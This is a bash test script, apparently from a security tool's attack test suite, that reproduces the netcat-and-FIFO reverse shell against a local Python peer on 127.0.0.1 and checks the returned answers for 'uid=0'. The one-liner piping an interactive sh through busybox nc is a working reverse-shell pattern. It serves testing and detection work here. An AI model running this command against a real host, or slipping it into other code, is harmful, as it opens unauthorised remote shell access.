#!/usr/bin/env bash
# The reverse shell with a FIFO: sh is interactive between two pipes that netcat joins to a connection.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts

python3 "$peer" operator "$work/port" "$work/answers" 1 &
operator=$!
wait_for "$work/port"
mkfifo "$work/f"
# shellcheck disable=SC2002,SC2094 # the cat and the FIFO are the attack
cat "$work/f" | sh -i 2>&1 | busybox nc 127.0.0.1 "$(<"$work/port")" >"$work/f"
wait "$operator"
grep -q 'uid=0' "$work/answers" || fail "the shell did not answer"
